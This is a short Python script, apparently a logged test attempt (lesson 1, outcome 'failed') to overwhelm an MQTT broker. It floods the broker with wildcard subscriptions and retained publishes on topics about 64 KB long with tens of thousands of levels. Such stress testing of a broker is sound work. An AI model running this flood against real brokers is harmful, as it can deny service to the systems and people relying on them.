# attack: topics of sixty-five thousand bytes, nothing but levels
# lesson: 1
# outcome: failed
# says: levels
import os
import time

from mqttkit import make_client

client = make_client()
client.connect(os.environ["MQTT_HOST"], int(os.environ["MQTT_PORT"]))
client.loop_start()
for number in range(100):
    client.subscribe("+/" * 32000 + "#", 0)
    client.publish("a/" * 32000 + str(number), "x", retain=True)
time.sleep(5)
